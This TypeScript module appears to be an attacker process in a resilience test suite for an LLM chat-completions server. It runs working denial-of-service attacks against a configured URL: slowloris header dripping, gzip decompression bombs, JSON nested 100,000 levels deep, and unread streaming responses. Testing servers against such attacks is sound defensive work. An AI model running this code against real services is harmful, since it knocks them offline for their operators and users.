import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { postBytes } from "./http-client.ts";

/** What an attacker does until it is killed; the JSON text of one goes in argv. Prints `attacking` once it is at its full strength. */
export interface AttackPlan {
  readonly kind: "slowloris" | "bombs" | "deep" | "unread";
  readonly url: string;
  /** A valid key: what needs none is done without. */
  readonly key: string;
  readonly model: string;
  /** Connections that are held open; requests a second for attacks that hold none. */
  readonly count: number;
}

const plan = JSON.parse(process.argv[2] ?? "{}") as AttackPlan;
const url = new URL(plan.url);
const path = "/v1/chat/completions";
/** Attackers do not keep step: each comes, drips and comes again at a moment of its own. */
const spreadMs = 5_000;

function open(): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect({ host: url.hostname, port: Number(url.port) }, () => resolve(socket));
    socket.on("error", () => socket.destroy());
  });
}

/** Holds `count` connections. @param comesAgain whether one that the victim closes is opened anew */
async function hold(comesAgain: boolean, begin: (socket: Socket) => void): Promise<void> {
  const keep = async (): Promise<void> => {
    const socket = await open();
    begin(socket);
    if (comesAgain) socket.once("close", () => setTimeout(() => void keep(), 100));
  };
  await Promise.all(
    Array.from({ length: plan.count }, async () => {
      await delay(Math.random() * spreadMs);
      await keep();
    }),
  );
}

/** Sends a request `count` times a second, each on a connection of its own, and reads the refusal. */
function repeat(request: Buffer): void {
  setInterval(() => {
    void open().then((socket) => {
      socket.resume();
      socket.write(request);
      socket.setTimeout(5_000, () => socket.destroy());
      socket.once("data", () => socket.end());
    });
  }, 1_000 / plan.count);
}

/** A body of `gzip`, which unpacks to a thousand times as much. */
function bomb(): Buffer {
  const body = gzipSync(Buffer.alloc(256 * 1024 * 1024, "["), { level: 9 });
  const head =
    `POST ${path} HTTP/1.1\r\nhost: ${url.host}\r\nauthorization: Bearer ${plan.key}\r\n` +
    `content-type: application/json\r\ncontent-encoding: gzip\r\ncontent-length: ${body.length}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), body]);
}

function deep(): Buffer {
  const placeholder = postBytes(url, path, plan.key, { model: plan.model, messages: ["@"] }).toString("latin1");
  const [head = "", body = ""] = placeholder.split("\r\n\r\n");
  const nested = body.replace('"@"', "[".repeat(100_000) + "]".repeat(100_000));
  return Buffer.from(`${head.replace(/content-length: \d+/, `content-length: ${nested.length}`)}\r\n\r\n${nested}`);
}

async function attack(): Promise<void> {
  switch (plan.kind) {
    case "slowloris":
      return hold(true, (socket) => {
        socket.write(`POST ${path} HTTP/1.1\r\nhost: ${url.host}\r\n`);
        const drip = setInterval(() => socket.write("x: y\r\n"), 5_000);
        socket.once("close", () => clearInterval(drip));
        socket.resume();
      });
    case "unread":
      // Who is cut off and asks again is held by the limits of its key, which no benchmark has.
      return hold(false, (socket) => {
        socket.pause();
        const x_sim = { tokens: 2_000_000, chunkTokens: 2_000, gapMs: 100 };
        socket.write(
          postBytes(url, path, plan.key, {
            model: plan.model,
            stream: true,
            messages: [{ role: "user", content: "more" }],
            x_sim,
          }),
        );
      });
    case "bombs":
      return repeat(bomb());
    case "deep":
      return repeat(deep());
  }
}

await attack();
console.log("attacking");
